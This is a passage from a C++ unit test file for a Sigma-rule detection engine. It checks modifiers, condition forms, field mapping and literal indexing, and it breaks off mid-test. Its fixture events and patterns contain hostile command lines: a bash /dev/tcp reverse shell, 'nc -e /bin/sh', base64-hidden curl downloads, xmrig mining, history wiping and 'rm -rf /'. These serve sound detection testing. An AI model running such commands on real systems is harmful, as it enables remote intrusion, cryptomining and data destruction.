// Single-event rules: Sigma value semantics, every modifier, condition
// forms, and the field mapping of docs/rules.md.

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "absl/container/flat_hash_map.h"
#include "absl/container/node_hash_map.h"
#include "absl/strings/str_cat.h"
#include "process/process_view.h"
#include "rules_fixture.h"
#include "status_matchers.h"

namespace vigil {
namespace {

using test::Alerts;
using test::Exec;
using test::LoadRules;
using test::ProcessEvent;
using ::testing::IsEmpty;
using ::testing::SizeIs;

std::string Rule(const std::string& category, const std::string& detection) {
  return absl::StrCat("title: Test rule\nid: r-1\nlogsource:\n  product: linux\n  category: ", category,
                      "\ndetection:\n", detection, "level: high\ntags: [attack.execution, attack.t1059.004]\n");
}

// True when a rule with this detection fires on `event`; fails the test when
// the rule does not load.
bool Fires(const std::string& category, const std::string& detection, const v1::Event& event,
           const ProcessView* processes = nullptr) {
  auto l = LoadRules(Rule(category, detection), processes);
  EXPECT_THAT(l->status, test::IsOk());
  if (!l->detector) return false;
  return !Alerts(*l->detector, event).empty();
}

v1::Event Bash(std::vector<std::string> argv = {"bash", "-c", "id"}) { return Exec("/usr/bin/bash", argv); }

TEST(RulesMatch, PlainValueIsCaseInsensitiveAndWhole) {
  const std::string d = "  sel:\n    Image: /USR/bin/Bash\n  condition: sel\n";
  EXPECT_TRUE(Fires("process_creation", d, Bash()));
  EXPECT_FALSE(Fires("process_creation", "  sel:\n    Image: /usr/bin/bas\n  condition: sel\n", Bash()));
}

// Values are folded to lower case eight bytes at a time: 'A', 'M' and 'Z'
// (folded), '@' and '[' (next to them, not folded) at each position of
// values around those eight bytes, after a two-byte UTF-8 letter or not.
TEST(RulesMatch, UpperCaseAtAnyPositionIsFolded) {
  int pid = 100;
  for (const std::string prefix : {"", "\xc3\xa9"}) {
    for (size_t len = 1; len <= 19; ++len) {
      const std::string plain = prefix + std::string(len, 'q');
      std::string list;
      for (size_t at = prefix.size(); at < plain.size(); ++at) {
        for (char c : {'a', 'm', 'z', '@', '['})
          absl::StrAppend(&list, "      - '", plain.substr(0, at), std::string(1, c), plain.substr(at + 1), "'\n");
      }
      auto l = LoadRules(Rule("process_creation", absl::StrCat("  sel:\n    Image:\n", list, "  condition: sel\n")));
      ASSERT_THAT(l->status, test::IsOk());
      for (size_t at = prefix.size(); at < plain.size(); ++at) {
        for (char upper : {'A', 'M', 'Z', '@', '[', 'B'}) {
          std::string image = plain;
          image[at] = upper;
          // Each its own process: alerts of one rule on one process are folded.
          const v1::Event e = Exec(image, {"x"}, absl::StrCat("node:1:", ++pid));
          EXPECT_EQ(!Alerts(*l->detector, e).empty(), upper != 'B') << image;
        }
      }
    }
  }
}

TEST(RulesMatch, Wildcards) {
  EXPECT_TRUE(Fires("process_creation", "  sel: {Image: '*/ba?h'}\n  condition: sel\n", Bash()));
  EXPECT_TRUE(Fires("process_creation", "  sel: {Image: '/usr/*/bash'}\n  condition: sel\n", Bash()));
  EXPECT_FALSE(Fires("process_creation", "  sel: {Image: '/usr/*/zsh'}\n  condition: sel\n", Bash()));
  EXPECT_TRUE(Fires("process_creation", "  sel: {Image: '*'}\n  condition: sel\n", Bash()));
}

TEST(RulesMatch, EscapedWildcardIsLiteral) {
  v1::Event star = Exec("/tmp/a*b", {"x"});
  EXPECT_TRUE(Fires("process_creation", "  sel: {Image: '/tmp/a\\*b'}\n  condition: sel\n", star));
  EXPECT_FALSE(Fires("process_creation", "  sel: {Image: '/tmp/a\\*b'}\n  condition: sel\n", Exec("/tmp/axxb", {})));
  EXPECT_TRUE(Fires("process_creation", "  sel: {Image: '/tmp/a*b'}\n  condition: sel\n", Exec("/tmp/axxb", {})));
}

TEST(RulesMatch, ContainsStartswithEndswith) {
  v1::Event e = Bash({"bash", "-i", ">&", "/dev/tcp/10.0.0.1/4444"});
  EXPECT_TRUE(Fires("process_creation", "  sel: {CommandLine|contains: /DEV/TCP/}\n  condition: sel\n", e));
  EXPECT_TRUE(Fires("process_creation", "  sel: {CommandLine|startswith: 'bash -i'}\n  condition: sel\n", e));
  EXPECT_TRUE(Fires("process_creation", "  sel: {CommandLine|endswith: '/4444'}\n  condition: sel\n", e));
  EXPECT_FALSE(Fires("process_creation", "  sel: {CommandLine|endswith: '/4445'}\n  condition: sel\n", e));
}

TEST(RulesMatch, ListIsOrAllIsAnd) {
  v1::Event e = Bash({"curl", "-o", "/tmp/x", "http://h/x"});
  EXPECT_TRUE(Fires("process_creation", "  sel:\n    CommandLine|contains: [wget, curl]\n  condition: sel\n", e));
  EXPECT_TRUE(Fires("process_creation", "  sel:\n    CommandLine|contains|all: [curl, /tmp/]\n  condition: sel\n", e));
  EXPECT_FALSE(Fires("process_creation", "  sel:\n    CommandLine|contains|all: [curl, /var/]\n  condition: sel\n", e));
}

TEST(RulesMatch, MapIsAndListOfMapsIsOr) {
  v1::Event e = Bash();
  EXPECT_FALSE(Fires("process_creation", "  sel:\n    Image: /usr/bin/bash\n    Comm: zsh\n  condition: sel\n", e));
  EXPECT_TRUE(Fires("process_creation", "  sel:\n    - Image: /usr/bin/zsh\n    - Comm: bash\n  condition: sel\n", e));
}

TEST(RulesMatch, CasedModifier) {
  v1::Event e = Bash({"bash", "-c", "ID"});
  EXPECT_TRUE(Fires("process_creation", "  sel: {CommandLine|contains|cased: ID}\n  condition: sel\n", e));
  EXPECT_FALSE(Fires("process_creation", "  sel: {CommandLine|contains|cased: id}\n  condition: sel\n", e));
}

TEST(RulesMatch, RegexIsCaseSensitiveUnlessI) {
  v1::Event e = Bash({"bash", "-c", "Nc -e /bin/sh 10.1.1.1 9001"});
  EXPECT_TRUE(Fires("process_creation", "  sel: {CommandLine|re: 'Nc -e \\S+ \\d+'}\n  condition: sel\n", e));
  EXPECT_FALSE(Fires("process_creation", "  sel: {CommandLine|re: 'nc -e'}\n  condition: sel\n", e));
  EXPECT_TRUE(Fires("process_creation", "  sel: {CommandLine|re|i: 'nc -e'}\n  condition: sel\n", e));
}

v1::Event Connect(const std::string& ip, uint32_t port) {
  v1::Event e = ProcessEvent(v1::EVENT_KIND_TCP_CONNECT, "/usr/bin/curl", {"curl"});
  v1::TcpConnect* c = e.mutable_tcp_connect();
  c->set_family(ip.find(':') == std::string::npos ? "ipv4" : "ipv6");
  c->mutable_local()->set_ip("10.0.0.5");
  c->mutable_local()->set_port(40000);
  c->mutable_remote()->set_ip(ip);
  c->mutable_remote()->set_port(port);
  c->set_remote_name("metadata.internal");
  return e;
}

TEST(RulesMatch, CidrV4AndV6) {
  const std::string d = "  sel:\n    DestinationIp|cidr: [169.254.0.0/16, 'fd00:ec2::/64']\n  condition: sel\n";
  EXPECT_TRUE(Fires("network_connection", d, Connect("169.254.169.254", 80)));
  EXPECT_TRUE(Fires("network_connection", d, Connect("fd00:ec2::254", 80)));
  EXPECT_TRUE(Fires("network_connection", d, Connect("::ffff:169.254.169.254", 80)));
  EXPECT_FALSE(Fires("network_connection", d, Connect("10.254.169.254", 80)));
}

TEST(RulesMatch, NumericComparisons) {
  EXPECT_TRUE(
      Fires("network_connection", "  sel: {DestinationPort|gte: 3333}\n  condition: sel\n", Connect("1.2.3.4", 3333)));
  EXPECT_FALSE(
      Fires("network_connection", "  sel: {DestinationPort|gt: 3333}\n  condition: sel\n", Connect("1.2.3.4", 3333)));
  EXPECT_TRUE(
      Fires("network_connection", "  sel: {DestinationPort|lt: 1024}\n  condition: sel\n", Connect("1.2.3.4", 80)));
  EXPECT_TRUE(
      Fires("network_connection", "  sel: {DestinationPort|lte: 80}\n  condition: sel\n", Connect("1.2.3.4", 80)));
  EXPECT_TRUE(Fires("network_connection", "  sel: {DestinationPort: 80}\n  condition: sel\n", Connect("1.2.3.4", 80)));
}

TEST(RulesMatch, ExistsAndNull) {
  v1::Event e = Bash();
  EXPECT_TRUE(Fires("process_creation", "  sel: {ContainerId|exists: false}\n  condition: sel\n", e));
  EXPECT_FALSE(Fires("process_creation", "  sel: {ContainerId|exists: true}\n  condition: sel\n", e));
  EXPECT_TRUE(Fires("process_creation", "  sel: {PodName: null}\n  condition: sel\n", e));
  test::InContainer(e);
  EXPECT_TRUE(Fires("process_creation", "  sel: {ContainerId|exists: true}\n  condition: sel\n", e));
  EXPECT_FALSE(Fires("process_creation", "  sel: {PodName: null}\n  condition: sel\n", e));
}

TEST(RulesMatch, Windash) {
  const std::string d = "  sel: {CommandLine|windash|contains: ' -enc '}\n  condition: sel\n";
  EXPECT_TRUE(Fires("process_creation", d, Bash({"pwsh", "/enc", "x"})));
  EXPECT_TRUE(Fires("process_creation", d, Bash({"pwsh", "-enc", "x"})));
  EXPECT_TRUE(Fires("process_creation", d,
                    Bash({"pwsh",
                          "\xe2\x80\x93"
                          "enc",
                          "x"})));
  EXPECT_FALSE(Fires("process_creation", d, Bash({"pwsh", "+enc", "x"})));
}

TEST(RulesMatch, Base64offsetContains) {
  // "curl http" base64-encoded at offset 0, 1 and 2 of a longer payload.
  const std::string d = "  sel: {CommandLine|base64offset|contains: 'curl http'}\n  condition: sel\n";
  EXPECT_TRUE(Fires("process_creation", d, Bash({"bash", "-c", "echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d"})));
  EXPECT_TRUE(Fires("process_creation", d, Bash({"bash", "-c", "echo IGN1cmwgaHR0cDovL2V2aWw= | base64 -d"})));
  EXPECT_TRUE(Fires("process_creation", d, Bash({"bash", "-c", "echo ICBjdXJsIGh0dHA6Ly9ldmls | base64 -d"})));
  EXPECT_FALSE(Fires("process_creation", d, Bash({"bash", "-c", "echo d2dldCBodHRwOi8vZXZpbA== | base64 -d"})));
}

TEST(RulesMatch, ExpandFromListsDirAndEmbedded) {
  v1::Event q = ProcessEvent(v1::EVENT_KIND_DNS_QUERY, "/usr/bin/curl", {"curl"});
  q.mutable_dns_query()->set_name("x.evil.example");
  const std::string rule = Rule("dns_query",
                                "  sel: {QueryName|endswith|expand: '%threat_intel_domains%'}\n"
                                "  condition: sel\n");
  // Embedded default list (rules_embedded_fixture.cc).
  auto embedded = LoadRules(rule);
  ASSERT_THAT(embedded->status, test::IsOk());
  EXPECT_THAT(Alerts(*embedded->detector, q), SizeIs(1));
  // A file in lists_dir replaces it.
  test::TempDir lists;
  lists.Write("threat_intel_domains.txt", "# mine\nother.example\n");
  SigmaDetectorOptions o;
  o.lists_dir = lists.path();
  auto replaced = LoadRules(rule, nullptr, o);
  ASSERT_THAT(replaced->status, test::IsOk());
  EXPECT_THAT(Alerts(*replaced->detector, q), IsEmpty());
  q.mutable_dns_query()->set_name("a.other.example");
  EXPECT_THAT(Alerts(*replaced->detector, q), SizeIs(1));
}

TEST(RulesMatch, ConditionForms) {
  const std::string sels =
      "  sel_a: {Image|endswith: /bash}\n  sel_b: {CommandLine|contains: ' -c '}\n  filter: {User: nobody}\n";
  v1::Event e = Bash();  // root, "bash -c id"
  EXPECT_TRUE(Fires("process_creation", sels + "  condition: sel_a and sel_b and not filter\n", e));
  EXPECT_TRUE(Fires("process_creation", sels + "  condition: filter or (sel_a and sel_b)\n", e));
  EXPECT_FALSE(Fires("process_creation", sels + "  condition: (filter or sel_a) and not sel_b\n", e));
  EXPECT_TRUE(Fires("process_creation", sels + "  condition: all of sel_*\n", e));
  EXPECT_TRUE(Fires("process_creation", sels + "  condition: 1 of them\n", e));
  EXPECT_FALSE(Fires("process_creation", sels + "  condition: all of them\n", e));
  EXPECT_TRUE(Fires("process_creation", sels + "  condition: 1 of sel_* and not 1 of filter*\n", e));
  EXPECT_TRUE(Fires("process_creation", sels + "  condition: [filter, sel_a]\n", e));
  EXPECT_FALSE(Fires("process_creation", sels + "  condition: not sel_a\n", e));
}

TEST(RulesMatch, ProcessFields) {
  v1::Event e = Bash({"bash", "-c", "id"});
  e.mutable_process()->set_cwd("/var/www");
  e.mutable_process()->set_uid(65534);
  EXPECT_TRUE(Fires("process_creation", "  sel: {CurrentDirectory: /var/www}\n  condition: sel\n", e));
  EXPECT_TRUE(Fires("process_creation", "  sel: {ProcessId: 100, ParentProcessId: 1}\n  condition: sel\n", e));
  EXPECT_TRUE(Fires("process_creation", "  sel: {CommandLine: 'bash -c id'}\n  condition: sel\n", e));
  EXPECT_TRUE(Fires("process_creation", "  sel: {Uid: 65534, Comm: bash}\n  condition: sel\n", e));
  // User: the name /etc/passwd gives uid 0.
  e.mutable_process()->set_uid(0);
  EXPECT_TRUE(Fires("process_creation", "  sel: {User: root}\n  condition: sel\n", e));
  // A uid without a passwd entry: the number.
  e.mutable_process()->set_uid(4000123);
  EXPECT_TRUE(Fires("process_creation", "  sel: {User: '4000123'}\n  condition: sel\n", e));
}

TEST(RulesMatch, WorkloadFields) {
  v1::Event e = Bash();
  EXPECT_TRUE(Fires("process_creation", "  sel: {Host: true, Node: node}\n  condition: sel\n", e));
  test::InContainer(e, "abc123", "registry.example/web:2", "shop", "web-7");
  e.mutable_workload()->set_container_name("web");
  e.mutable_workload()->set_pod_uid("uid-1");
  EXPECT_TRUE(Fires("process_creation",
                    "  sel:\n    Host: false\n    ContainerId: abc123\n    ContainerName: web\n"
                    "    ContainerImage|startswith: registry.example/\n    PodNamespace: shop\n"
                    "    PodName: web-*\n    PodUid: uid-1\n  condition: sel\n",
                    e));
}

TEST(RulesMatch, ExecKernelFacts) {
  v1::Event e = Bash({"sh", "-i"});
  v1::Exec* x = e.mutable_exec();
  for (uint32_t fd = 0; fd < 3; ++fd) {
    v1::StdioFd* s = x->add_stdio();
    s->set_fd(fd);
    s->set_type(fd == 2 ? v1::FD_TYPE_TTY : v1::FD_TYPE_SOCKET);
    if (fd < 2) {
      s->set_family("ipv4");
      s->set_protocol("tcp");
      s->mutable_remote()->set_ip("10.9.9.9");
      s->mutable_remote()->set_port(4444);
    }
  }
  x->set_upper_layer(true);
  x->set_memfd(false);
  EXPECT_TRUE(Fires("process_creation",
                    "  sel:\n    StdinType: socket\n    StdoutType: socket\n    StderrType: tty\n"
                    "    StdioRemoteIp|cidr: 10.0.0.0/8\n    StdioRemotePort: 4444\n    UpperLayer: true\n"
                    "    Memfd: false\n    Deleted: false\n    Setuid: false\n    Setgid: false\n    FileCaps: false\n"
                    "  condition: sel\n",
                    e));
  EXPECT_FALSE(Fires("process_creation", "  sel: {StdinType: pipe}\n  condition: sel\n", e));
}

TEST(RulesMatch, ProtobufJsonPaths) {
  v1::Event k = ProcessEvent(v1::EVENT_KIND_KILL, "/usr/bin/kill", {"kill", "-9", "1"});
  k.mutable_kill()->set_signal_name("SIGKILL");
  k.mutable_kill()->set_target_pid(1);
  EXPECT_TRUE(Fires("kill", "  sel: {kill.signalName: SIGKILL, kill.targetPid: 1}\n  condition: sel\n", k));
  v1::Event f = ProcessEvent(v1::EVENT_KIND_FILE_OPEN, "/usr/bin/vi", {"vi"});
  f.mutable_file()->set_path("/etc/passwd");
  f.mutable_file()->set_flags(01);
  f.mutable_file()->add_open_flags("O_WRONLY");
  f.mutable_file()->add_open_flags("O_TRUNC");
  EXPECT_TRUE(Fires("file_event", "  sel: {file.openFlags: O_TRUNC}\n  condition: sel\n", f));
  EXPECT_TRUE(Fires("process_creation", "  sel: {exec.upperLayer: false}\n  condition: sel\n", Bash()));
}

v1::Event FileEvent(v1::EventKind kind, const std::string& path, uint32_t flags = 0) {
  v1::Event e = ProcessEvent(kind, "/usr/bin/touch", {"touch"});
  e.mutable_file()->set_path(path);
  e.mutable_file()->set_flags(flags);
  return e;
}

TEST(RulesMatch, FileCategories) {
  const std::string d = "  sel: {TargetFilename|startswith: /etc/}\n  condition: sel\n";
  EXPECT_TRUE(Fires("file_event", d, FileEvent(v1::EVENT_KIND_FILE_OPEN, "/etc/ld.so.preload", 01 | 0100)));
  // file_event: read-only opens are not writes.
  EXPECT_FALSE(Fires("file_event", d, FileEvent(v1::EVENT_KIND_FILE_OPEN, "/etc/shadow", 0)));
  EXPECT_TRUE(Fires("file_access", d, FileEvent(v1::EVENT_KIND_FILE_OPEN, "/etc/shadow", 0)));
  EXPECT_TRUE(Fires("file_delete", d, FileEvent(v1::EVENT_KIND_FILE_UNLINK, "/etc/x")));
  EXPECT_TRUE(Fires("file_change", d, FileEvent(v1::EVENT_KIND_FILE_CHMOD, "/etc/x")));
  v1::Event rename = FileEvent(v1::EVENT_KIND_FILE_RENAME, "/tmp/evil");
  rename.mutable_file()->set_new_path("/etc/cron.d/evil");
  EXPECT_TRUE(Fires("file_event",
                    "  sel: {TargetFilename: /etc/cron.d/evil, SourceFilename: /tmp/evil}\n"
                    "  condition: sel\n",
                    rename));
  EXPECT_TRUE(Fires("file_rename", d, rename));
  // A rule of one category never sees another's kinds.
  EXPECT_FALSE(Fires("file_delete", d, rename));
}

TEST(RulesMatch, NetworkFields) {
  v1::Event c = Connect("169.254.169.254", 80);
  EXPECT_TRUE(Fires("network_connection",
                    "  sel:\n    DestinationIp: 169.254.169.254\n    DestinationPort: 80\n"
                    "    DestinationHostname: metadata.internal\n    SourceIp: 10.0.0.5\n    SourcePort: 40000\n"
                    "    Initiated: 'true'\n    Protocol: tcp\n  condition: sel\n",
                    c));
  v1::Event a = ProcessEvent(v1::EVENT_KIND_TCP_ACCEPT, "/usr/sbin/sshd", {"sshd"});
  a.mutable_tcp_accept()->mutable_local()->set_ip("10.0.0.5");
  a.mutable_tcp_accept()->mutable_local()->set_port(22);
  a.mutable_tcp_accept()->mutable_remote()->set_ip("203.0.113.9");
  EXPECT_TRUE(Fires("network_connection",
                    "  sel: {Initiated: false, DestinationPort: 22, SourceIp: 203.0.113.9}\n  condition: sel\n", a));
}

TEST(RulesMatch, DnsFields) {
  v1::Event r = ProcessEvent(v1::EVENT_KIND_DNS_RESPONSE, "/usr/bin/curl", {"curl"});
  v1::DnsResponse* d = r.mutable_dns_response();
  d->set_name("pool.minexmr.com");
  d->set_type_name("A");
  d->mutable_server()->set_ip("10.96.0.10");
  d->add_addresses("1.1.1.1");
  d->add_addresses("203.0.113.7");
  EXPECT_TRUE(Fires("dns_response",
                    "  sel:\n    QueryName|contains: minexmr\n    QueryType: A\n    DnsServer: 10.96.0.10\n"
                    "    QueryResults|cidr: 203.0.113.0/24\n  condition: sel\n",
                    r));
}

// A process cache holding the parent chain of pid 100.
class FakeProcesses : public ProcessView {
 public:
  void Add(const std::string& exec_id, const std::string& exe, std::vector<std::string> argv,
           const std::string& parent) {
    CachedProcess& p = procs_[exec_id];
    p.SetText(exe, "", argv);
    parents_[&p] = parent;
  }
  const CachedProcess* Lookup(absl::string_view exec_id) const override {
    auto it = procs_.find(exec_id);
    return it == procs_.end() ? nullptr : &it->second;
  }
  const CachedProcess* Parent(const CachedProcess& process) const override {
    auto it = parents_.find(&process);
    return it == parents_.end() ? nullptr : Lookup(it->second);
  }

 private:
  absl::node_hash_map<std::string, CachedProcess> procs_;  // stays put: parents_ points into it
  absl::flat_hash_map<const CachedProcess*, std::string> parents_;
};

TEST(RulesMatch, ParentAndAncestorsThroughProcessView) {
  FakeProcesses procs;
  procs.Add("node:1:1", "/usr/sbin/nginx", {"nginx", "-g", "daemon off;"}, "node:1:0");
  procs.Add("node:1:0", "/usr/bin/containerd-shim-runc-v2", {"shim"}, "");
  // A file event (no ancestors on it): the detector walks the view.
  v1::Event f = FileEvent(v1::EVENT_KIND_FILE_OPEN, "/var/www/shell.php", 01);
  const std::string parent =
      "  sel: {ParentImage: /usr/sbin/nginx, ParentCommandLine: 'nginx -g daemon off;'}\n"
      "  condition: sel\n";
  EXPECT_TRUE(Fires("file_event", parent, f, &procs));
  EXPECT_FALSE(Fires("file_event", parent, f, nullptr));
  EXPECT_TRUE(
      Fires("file_event", "  sel: {AncestorImages|endswith: containerd-shim-runc-v2}\n  condition: sel\n", f, &procs));
  EXPECT_TRUE(
      Fires("file_event", "  sel: {AncestorCommandLines|contains: 'daemon off'}\n  condition: sel\n", f, &procs));
  // Ancestors carried by the event win over the view.
  v1::Event e = Bash();
  v1::Process* a = e.add_ancestors();
  a->set_exe("/usr/bin/python3");
  a->add_argv("python3");
  a->add_argv("app.py");
  EXPECT_TRUE(Fires("process_creation", "  sel: {ParentImage: /usr/bin/python3}\n  condition: sel\n", e, &procs));
  EXPECT_FALSE(Fires("process_creation", "  sel: {AncestorImages: /usr/sbin/nginx}\n  condition: sel\n", e, &procs));
}

}  // namespace
}  // namespace vigil

namespace vigil {
namespace {

// Rules that require an Image file name are indexed by it; the index must
// not change what matches.
TEST(RulesMatch, ImageNameIndexKeepsSigmaSemantics) {
  const std::string d =
      "  tool:\n    - Image|endswith: /curl\n    - Image: /usr/bin/wget\n"
      "  args: {CommandLine|contains: http}\n  condition: tool and args\n";
  EXPECT_TRUE(Fires("process_creation", d, Exec("/usr/bin/CURL", {"curl", "http://x"})));
  EXPECT_TRUE(Fires("process_creation", d, Exec("/usr/bin/wget", {"wget", "http://x"})));
  EXPECT_FALSE(Fires("process_creation", d, Exec("/opt/wget", {"wget", "http://x"})));
  EXPECT_FALSE(Fires("process_creation", d, Exec("/usr/bin/curlx", {"curlx", "http://x"})));
  EXPECT_FALSE(Fires("process_creation", d, Exec("/usr/bin/curl", {"curl", "ftp://x"})));
  // An alternative without an Image test keeps the rule out of the index.
  const std::string any = "  sel:\n    - Image|endswith: /curl\n    - CommandLine|contains: wget\n  condition: sel\n";
  EXPECT_TRUE(Fires("process_creation", any, Exec("/bin/sh", {"sh", "-c", "wget x"})));
}

// Rules that need a text field to hold one of a few literals are found
// through one RE2::Set pass over the value; the index must not change what
// matches either.
TEST(RulesMatch, LiteralIndexKeepsSigmaSemantics) {
  const std::string pool = "  sel:\n    CommandLine|contains: stratum+tcp://\n  condition: sel\n";
  EXPECT_TRUE(Fires("process_creation", pool, Bash({"xmrig", "-o", "STRATUM+TCP://pool:3333"})));
  EXPECT_FALSE(Fires("process_creation", pool, Bash({"xmrig", "-o", "stratum+ssl://pool:3333"})));
  // Bytes that are not UTF-8 before the literal.
  EXPECT_TRUE(Fires("process_creation", pool, Bash({"x\xff\xfe", "stratum+tcp://p"})));
  // Every alternative tests CommandLine: indexed by the literals of both.
  const std::string either =
      "  sel:\n    - CommandLine|startswith: 'history -c'\n    - CommandLine|endswith: '.bash_history'\n"
      "  condition: sel\n";
  EXPECT_TRUE(Fires("process_creation", either, Bash({"history", "-c"})));
  EXPECT_TRUE(Fires("process_creation", either, Bash({"rm", "/root/.bash_history"})));
  EXPECT_FALSE(Fires("process_creation", either, Bash({"echo", "history -c"})));
  // Startswith, endswith and equals are still what they say once found by
  // the literal anywhere in the value.
  EXPECT_FALSE(Fires("process_creation", either, Bash({"cat", "/root/.bash_history", "x"})));
  // An alternative without a literal test of that field keeps the rule out
  // of the index.
  const std::string mixed = "  sel:\n    - CommandLine|contains: nc -e\n    - Image|re: '.*/ncat$'\n  condition: sel\n";
  EXPECT_TRUE(Fires("process_creation", mixed, Exec("/usr/bin/ncat", {"ncat", "host"})));
  EXPECT_TRUE(Fires("process_creation", mixed, Bash({"nc", "-e", "/bin/sh"})));
  // A cased literal is compared on the raw value: not indexed, still cased.
  const std::string cased = "  sel:\n    CommandLine|cased|contains: LD_PRELOAD\n  condition: sel\n";
  EXPECT_TRUE(Fires("process_creation", cased, Bash({"env", "LD_PRELOAD=/x.so", "id"})));
  EXPECT_FALSE(Fires("process_creation", cased, Bash({"env", "ld_preload=/x.so", "id"})));
  // A list field: any of its values may hold the literal.
  v1::Event child = Bash({"id"});
  child.add_ancestors()->set_exe("/usr/bin/python3");
  EXPECT_TRUE(Fires("process_creation", "  sel:\n    AncestorImages|endswith: /python3\n  condition: sel\n", child));
  // The index is in force: an event without the literal does not even
  // evaluate the rule.
  {
    auto l = LoadRules(Rule("process_creation", pool));
    ASSERT_THAT(l->status, test::IsOk());
    EXPECT_THAT(Alerts(*l->detector, Bash({"ls"})), IsEmpty());
    EXPECT_THAT(Alerts(*l->detector, Bash({"x", "Stratum+TCP://p"})), SizeIs(1));
    EXPECT_EQ(l->detector->Stats().rules.rules(0).evaluations(), 1u);
  }
  // An OR requires the literals of all its parts, an AND those of one part.
  const std::string shm =
      "  selection:\n    Image|startswith: /dev/shm/\n  selection_relative:\n    Image|startswith: ./\n"
      "    CurrentDirectory|startswith: /dev/shm\n  condition: 1 of selection*\n";
  EXPECT_TRUE(Fires("process_creation", shm, Exec("/dev/shm/x", {"x"})));
  v1::Event relative = Exec("./x", {"./x"});
  relative.mutable_process()->set_cwd("/dev/shm");
  EXPECT_TRUE(Fires("process_creation", shm, relative));
  EXPECT_FALSE(Fires("process_creation", shm, Exec("./x", {"./x"})));
  const std::string or_other =
      "  a:\n    CommandLine|contains: wipe\n  b:\n    Uid: 0\n  c:\n    CommandLine|contains: -rf\n"
      "  condition: a or (b and c)\n";
  EXPECT_TRUE(Fires("process_creation", or_other, Bash({"rm", "-rf", "/"})));
  EXPECT_TRUE(Fires("process_creation", or_other, Bash({"wipe", "disk"})));
  EXPECT_FALSE(Fires("process_creation", or_other, Bash({"rm", "-r", "/"})));
  const std::string or_unguarded = "  a:\n    CommandLine|contains: wipe\n  b:\n    Uid: 0\n  condition: a or b\n";
  EXPECT_TRUE(Fires("process_creation", or_unguarded, Bash({"id"})));
  // A boolean field is its text: "true" or "false".
  const std::string in_container = "  sel:\n    Host: 'false'\n    Image|contains: /\n  condition: sel\n";
  v1::Event contained = Bash({"id"});
  test::InContainer(contained);
  EXPECT_TRUE(Fires("process_creation", in_container, contained));
  EXPECT_FALSE(Fires("process_creation", in_container, Bash({"id"})));
  // A NOT of a literal test is no requirement of the literal.
  const std::string negated = "  sel:\n    CommandLine|contains: curl\n  condition: not sel\n";
  EXPECT_TRUE(Fires("process_creation", negated, Bash({"id"})));
  EXPECT_FALSE(Fires("process_creation", negated, Bash({"curl", "x"})));
}

// A few literals are looked for one by one, more through one RE2::Set pass:
// both find a literal anywhere in the value, and both keep the rule from
// being evaluated on events without one.
TEST(RulesMatch, LiteralIndexFewAndMany) {
  for (int n : {1, 4, 5, 40}) {
    SCOPED_TRACE(n);
    std::string d = "  sel:\n    CommandLine|contains:\n";
    for (int i = 0; i < n; ++i) absl::StrAppend(&d, "      - 'tool", i, " --x'\n");
    d += "  condition: sel\n";
    auto l = LoadRules(Rule("process_creation", d));
    ASSERT_THAT(l->status, test::IsOk());
    EXPECT_THAT(Alerts(*l->detector, Bash({"ls", "tool --x"})), IsEmpty());
    EXPECT_EQ(l->detector->Stats().rules.rules(0).evaluations(), 0u);
    // The first and the last literal (the second alert of the same process
    // is folded into the first: count the matches).
    for (int i : {0, n - 1}) Alerts(*l->detector, Bash({"echo", absl::StrCat("a TOOL", i, " --X b")}));
    EXPECT_EQ(l->detector->Stats().rules.rules(0).evaluations(), 2u);
    EXPECT_EQ(l->detector->Stats().rules.rules(0).matches(), 2u);
  }
}

// A rule that needs both a boolean and a text literal is indexed by the
// text: Host is false on every container event, a file name is rarely the
// one the rule looks for.
TEST(RulesMatch, LiteralIndexPrefersTextToBoolean) {
  const std::string d =
      "  container:\n    Host: 'false'\n  target:\n    TargetFilename: /proc/sys/kernel/core_pattern\n"
      "  condition: container and target\n";
  auto l = LoadRules(Rule("file_event", d));
  ASSERT_THAT(l->status, test::IsOk());
  v1::Event other = FileEvent(v1::EVENT_KIND_FILE_OPEN, "/var/log/app.log", 01);
  test::InContainer(other);
  EXPECT_THAT(Alerts(*l->detector, other), IsEmpty());
  EXPECT_EQ(l->detector->Stats().rules.rules(0).evaluations(), 0u);
  v1::Event hit = FileEvent(v1::EVENT_KIND_FILE_OPEN, "/proc/sys/kernel/core_pattern", 01);
  EXPECT_THAT(Alerts(*l->detector, hit), IsEmpty());  // on the host
  test::InContainer(hit);
  EXPECT_THAT(Alerts(*l->detector, hit), SizeIs(1));
  EXPECT_EQ(l->detector->Stats().rules.rules(0).evaluations(), 2u);
  // Booleans alone still index the rule.
  const std::string drift = "  sel:\n    Host: 'false'\n    UpperLayer: 'true'\n  condition: sel\n";
  auto b = LoadRules(Rule("process_creation", drift));
  ASSERT_THAT(b->status, test::IsOk());
  EXPECT_THAT(Alerts(*b->detector, Bash({"id"})), IsEmpty());
  EXPECT_EQ(b->detector->Stats().rules.rules(0).evaluations(), 0u);
}

// How many times the only rule of `detection` is evaluated over `events`,
// and whether it matched each event it should.
uint64_t Evaluations(const std::string& detection, const std::vector<v1::Event>& events) {
  auto l = LoadRules(Rule("process_creation", detection));
  EXPECT_THAT(l->status, test::IsOk());
  for (const v1::Event& e : events) Alerts(*l->detector, e);
  return l->detector->Stats().rules.rules(0).evaluations();
}

// A regular expression that needs a literal (RE2's prefilter atoms) indexes
// its rule like a `contains` would; one whose atoms lower-casing could miss
// does not, and every rule still matches what it matched.
TEST(RulesMatch, LiteralIndexTakesTheLiteralsARegexNeeds) {
  const std::string hidden = "  sel:\n    Image|re: '/\\.[^/]+$'\n  condition: sel\n";
  EXPECT_TRUE(Fires("process_creation", hidden, Exec("/tmp/.X", {"x"})));
  EXPECT_FALSE(Fires("process_creation", hidden, Exec("/tmp/x", {"x"})));
  EXPECT_EQ(Evaluations(hidden, {Exec("/usr/bin/ls", {"ls"}), Exec("/bin/id", {"id"})}), 0u);
  // An upper-case literal: found in the lower-cased value.
  const std::string cased = "  sel:\n    Image|re: '/\\.Hidden$'\n  condition: sel\n";
  EXPECT_TRUE(Fires("process_creation", cased, Exec("/tmp/.Hidden", {"x"})));
  EXPECT_FALSE(Fires("process_creation", cased, Exec("/tmp/.hidden", {"x"})));
  EXPECT_EQ(Evaluations(cased, {Exec("/usr/bin/ls", {"ls"})}), 0u);
  // Alternatives: one of their literals.
  const std::string interpreter = "  sel:\n    Image|re: '/(python[0-9.]*|perl|node)$'\n  condition: sel\n";
  EXPECT_TRUE(Fires("process_creation", interpreter, Exec("/usr/bin/python3.11", {"python3"})));
